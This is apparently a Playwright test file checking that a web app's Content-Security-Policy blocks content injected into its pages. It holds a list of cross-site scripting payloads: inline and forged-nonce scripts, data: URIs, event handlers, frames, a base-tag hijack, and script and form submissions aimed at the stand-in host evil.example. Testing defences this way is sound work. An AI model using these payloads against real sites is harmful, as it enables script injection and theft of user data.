// The Content-Security-Policy in a real browser: our pages live with it (every other browser test says so, too; see
// fixtures.ts), and what somebody got into one does not run.
import { expect, test } from "./fixtures";

/** What a hole in a page would let in, by the ways that there are. */
const injected = `
  <script>window.ran.push("inline")</script>
  <script nonce="x">window.ran.push("a nonce of its own")</script>
  <script src="https://evil.example/x.js"></script>
  <script src="data:text/javascript,window.ran.push('data')"></script>
  <img src="x" onerror="window.ran.push('an event')">
  <iframe srcdoc="<script>parent.ran.push('a frame')</script>"></iframe>
  <object data="data:text/html,<script>parent.ran.push('an object')</script>"></object>
  <base href="https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>
  <form id="theft" action="https://evil.example/"><input name="code" value="123456"></form>`;

for (const path of ["/sign-up", "/outbox"]) {
  test(`A script in the HTML of ${path} that is not ours does not run`, async ({ page, violations }) => {
    const outside: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      outside.push(route.request().url());
      return route.fulfill({ contentType: "text/javascript", body: "window.ran.push('another host')" });
    });
    await page.addInitScript(() => Object.assign(window, { ran: [] }));
    await page.route(
      (url) => url.pathname === path,
      async (route) => {
        const response = await route.fetch();
        const html = await response.text();
        // At the end: React takes what stands there for no part of its own.
        await route.fulfill({ response, body: html.replace("</body>", `${injected}</body>`) });
      },
    );
    await page.goto(path);
    await page.evaluate(() => {
      const link = document.createElement("a");
      link.href = "javascript:window.ran.push('a link')";
      document.body.append(link);
      link.click();
    });

    await expect(page.getByRole("heading").first()).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([]);
    await page.evaluate(() => document.querySelector<HTMLFormElement>("#theft")?.submit());
    // Playwright waits on the page for the navigation that does not come: from here on it is not asked.
    await expect.poll(() => violations.join("\n")).toContain("Sending form data");
    expect(outside).toEqual([]);
    expect(violations.splice(0).length).toBeGreaterThanOrEqual(12);
  });
}

test("Every page works under its own policy, from the first document and from another page", async ({
  page,
}) => {
  for (const path of ["/outbox", "/problems", "/sign-in", "/reset-password", "/account", "/nothing"]) {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeVisible();
  }
  await page.getByRole("link", { name: "Go to the front page" }).click();
  await page.getByRole("link", { name: "Problem codes" }).click();
  await expect(page.getByRole("heading", { name: "Problem codes" })).toBeVisible();
  await page.getByRole("banner").getByRole("link").click();
  await page.getByRole("link", { name: "Create an account" }).first().click();
  await page.getByLabel("Email address").fill("nobody");
  await page.getByRole("button", { name: "Get code" }).click();
  // Said by a script of ours.
  await expect(page.getByLabel("Email address")).toHaveAttribute("aria-invalid", "true");
});

test("A page that is rendered for one request has a nonce of its own, on each of its scripts", async ({
  request,
}) => {
  const nonces = [];
  for (let count = 0; count < 2; count++) {
    // What a client says of itself counts for nothing.
    const headers = { "content-security-policy": "script-src 'nonce-Zm9yZ2Vk'" };
    const answer = await request.get("/outbox", { headers });
    const [, nonce] = /'nonce-([^']+)'/.exec(answer.headers()["content-security-policy"] ?? "") ?? [];
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(3);
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    nonces.push(nonce);
  }
  expect(new Set(nonces).size).toBe(2);
});
